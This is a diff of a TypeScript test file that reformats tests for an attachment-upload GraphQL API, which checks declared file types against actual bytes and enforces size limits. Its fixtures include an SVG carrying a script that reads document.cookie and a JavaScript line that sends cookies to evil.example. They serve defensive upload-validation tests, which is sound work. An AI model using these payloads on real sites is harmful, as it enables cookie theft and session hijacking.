@@ -8,7 +8,12 @@ import { errorCodes, startTestPlatform, type TestPlatform } from '../support/pla
 
 const ATTACH = /* GraphQL */ `
   mutation Attach($documentId: ID!, $input: AttachmentInput!) {
-    addAttachment(documentId: $documentId, input: $input) { id fileName mediaType size }
+    addAttachment(documentId: $documentId, input: $input) {
+      id
+      fileName
+      mediaType
+      size
+    }
   }
 `;
 
@@ -24,7 +29,9 @@ const PNG = Buffer.from(
   'hex',
 );
 const HTML = Buffer.from('<!DOCTYPE html>\n<html><body><script>fetch("/graphql")</script></body></html>\n');
-const SVG = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');
+const SVG = Buffer.from(
+  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
+);
 const JS = Buffer.from('document.location = "https://evil.example/?" + document.cookie;\n');
 const CSV = Buffer.from('dzielnica;liczba\nStare Miasto;12\nPodgórze;7\n');
 
@@ -38,7 +45,11 @@ describe('issue 12: attachment types are checked against their bytes', () => {
   afterAll(() => platform?.stop());
 
   const attach = (fileName: string, mediaType: string, bytes: Buffer) =>
-    platform.query(ATTACH, { documentId, input: { fileName, mediaType, contentBase64: bytes.toString('base64') } }, 'tomasz.zielinski');
+    platform.query(
+      ATTACH,
+      { documentId, input: { fileName, mediaType, contentBase64: bytes.toString('base64') } },
+      'tomasz.zielinski',
+    );
 
   test('issue 12: a real PDF, PNG, text and CSV are accepted and served with their verified type', async () => {
     for (const [fileName, mediaType, bytes] of [
@@ -51,7 +62,11 @@ describe('issue 12: attachment types are checked against their bytes', () => {
       expect(added.errors).toBeUndefined();
       expect(added.data!.addAttachment).toMatchObject({ fileName, mediaType, size: bytes.length });
     }
-    const read = await platform.query('query($id: ID!) { document(id: $id) { attachments { fileName mediaType contentBase64 } } }', { id: documentId }, 'tomasz.zielinski');
+    const read = await platform.query(
+      'query($id: ID!) { document(id: $id) { attachments { fileName mediaType contentBase64 } } }',
+      { id: documentId },
+      'tomasz.zielinski',
+    );
     const served = read.data!.document.attachments as { fileName: string; mediaType: string; contentBase64: string }[];
     expect(served.map((a) => [a.fileName, a.mediaType])).toEqual([
       ['regulamin.pdf', 'application/pdf'],
@@ -65,8 +80,14 @@ describe('issue 12: attachment types are checked against their bytes', () => {
   test('issue 12: an HTML page uploaded as a PDF is refused, naming the field and what its bytes are', async () => {
     const response = await attach('faktura.pdf', 'application/pdf', HTML);
     expect(errorCodes(response)).toEqual(['BAD_USER_INPUT']);
-    expect(response.errors![0].extensions).toMatchObject({ field: 'contentBase64', declared: 'application/pdf', detected: 'text/html' });
-    expect(response.errors![0].message).toMatch(/"contentBase64" is not the application\/pdf that "mediaType" declares: its bytes are text\/html/);
+    expect(response.errors![0].extensions).toMatchObject({
+      field: 'contentBase64',
+      declared: 'application/pdf',
+      detected: 'text/html',
+    });
+    expect(response.errors![0].message).toMatch(
+      /"contentBase64" is not the application\/pdf that "mediaType" declares: its bytes are text\/html/,
+    );
   });
 
   test('issue 12: bytes of another accepted type, or of none, do not pass for the declared one', async () => {
@@ -108,7 +129,11 @@ describe('issue 12: attachment types are checked against their bytes', () => {
     expect(htmlAsText.errors![0].extensions).toMatchObject({ detected: 'text/html' });
     const xmlAsCsv = await attach('dane.csv', 'text/csv', Buffer.from('<?xml version="1.0"?><dane/>'));
     expect(xmlAsCsv.errors![0].extensions).toMatchObject({ detected: 'application/xml' });
-    const read = await platform.query('query($id: ID!) { document(id: $id) { attachments { fileName } } }', { id: documentId }, 'tomasz.zielinski');
+    const read = await platform.query(
+      'query($id: ID!) { document(id: $id) { attachments { fileName } } }',
+      { id: documentId },
+      'tomasz.zielinski',
+    );
     expect(read.data!.document.attachments.map((a: { fileName: string }) => a.fileName)).not.toContain('strona.txt');
   });
   test('issue 12: an editor attaches a 3 MB PDF (more than the 1 MB anyone may send); without signing in, 413 says why', async () => {
@@ -118,7 +143,13 @@ describe('issue 12: attachment types are checked against their bytes', () => {
     expect(added.errors).toBeUndefined();
     expect(added.data!.addAttachment).toMatchObject({ mediaType: 'application/pdf', size: large.length });
 
-    const body = JSON.stringify({ query: ATTACH, variables: { documentId, input: { fileName: 'plan.pdf', mediaType: 'application/pdf', contentBase64: large.toString('base64') } } });
+    const body = JSON.stringify({
+      query: ATTACH,
+      variables: {
+        documentId,
+        input: { fileName: 'plan.pdf', mediaType: 'application/pdf', contentBase64: large.toString('base64') },
+      },
+    });
     for (const authorization of [undefined, 'Bearer not-a-token']) {
       const response = await fetch(platform.gatewayUrl, {
         method: 'POST',
@@ -127,7 +158,9 @@ describe('issue 12: attachment types are checked against their bytes', () => {
       });
       expect(response.status).toBe(413);
       const answer = (await response.json()) as { errors: { message: string }[] };
-      expect(answer.errors[0].message).toMatch(/larger than 1 MB\. Only a signed-in account may send more \(up to 15 MB, for attachments\)/);
+      expect(answer.errors[0].message).toMatch(
+        /larger than 1 MB\. Only a signed-in account may send more \(up to 15 MB, for attachments\)/,
+      );
     }
   });
 });
